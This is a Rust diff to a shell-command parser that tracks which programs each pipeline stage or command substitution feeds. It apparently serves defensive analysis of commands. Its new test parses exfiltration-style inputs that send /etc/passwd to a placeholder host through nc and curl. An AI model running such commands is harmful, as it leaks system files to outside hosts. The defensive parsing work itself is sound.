@@ -116,11 +116,13 @@ impl Walker {
         Ok(())
     }
 
-    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`); text
-    /// that `echo`, `printf` or `cat <<EOF` pipe on becomes the next stage's standard input.
+    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`) and
+    /// feeds those of all later ones; text that `echo`, `printf` or `cat <<EOF` pipe on
+    /// becomes the next stage's standard input.
     fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize) -> Result<(), ShellError> {
         let mut upstream: Vec<Vec<u8>> = Vec::new();
         let mut carried: Option<Vec<u8>> = None;
+        let mut stages = Vec::with_capacity(pipeline.seq.len());
         for command in &pipeline.seq {
             let start = self.units.len();
             self.command(command, depth)?;
@@ -139,6 +141,19 @@ impl Walker {
                 return Err(ShellError::TooMany);
             }
             carried = self.units.get(start).and_then(piped_text);
+            stages.push(start..self.units.len());
+        }
+        let mut downstream: Vec<Vec<u8>> = Vec::new();
+        for pair in stages.windows(2).rev() {
+            for unit in &self.units[pair[1].clone()] {
+                program_names(unit, 0, &mut downstream);
+            }
+            downstream.sort_unstable();
+            downstream.dedup();
+            for unit in &mut self.units[pair[0].clone()] {
+                unit.feeds
+                    .extend(downstream.iter().cloned().map(Cow::Owned));
+            }
         }
         Ok(())
     }
@@ -264,6 +279,14 @@ impl Walker {
                 .chain(redirections.feeders)
                 .map(Cow::Owned),
         );
+        // What ran inside this command's words and redirections (`$(…)`, `<(…)`) feeds it.
+        if self.units.len() > slot + 1 {
+            let mut readers = Vec::new();
+            program_names(&unit, 0, &mut readers);
+            for nested in &mut self.units[slot + 1..] {
+                nested.feeds.extend(readers.iter().cloned().map(Cow::Owned));
+            }
+        }
         unit.redirects
             .extend(redirections.targets.into_iter().map(Cow::Owned));
         unit.inputs
@@ -930,5 +953,20 @@ mod tests {
             parse("x;".repeat(MAX_UNITS + 1).as_bytes(), 0).err(),
             Some(ShellError::TooMany)
         );
+    }
+
+    #[test]
+    fn what_a_command_feeds_is_recorded() {
+        let units = parse(b"cat /etc/passwd | gzip | sudo nc x 1", 0).unwrap();
+        assert_eq!(text(&units[0].feeds), ["gzip", "nc", "sudo"]);
+        assert_eq!(text(&units[1].feeds), ["nc", "sudo"]);
+        assert!(units[2].feeds.is_empty());
+        let units = parse(b"curl -d \"$(cat /etc/passwd)\" x <<< `id`; ls $(pwd)", 0).unwrap();
+        let argv0: Vec<_> = units.iter().map(|u| text(&u.argv[..1])).collect();
+        assert_eq!(argv0, [["curl"], ["cat"], ["id"], ["ls"], ["pwd"]]);
+        assert!(units[0].feeds.is_empty());
+        assert_eq!(text(&units[1].feeds), ["curl"]);
+        assert_eq!(text(&units[2].feeds), ["curl"]);
+        assert_eq!(text(&units[4].feeds), ["ls"]);
     }
 }
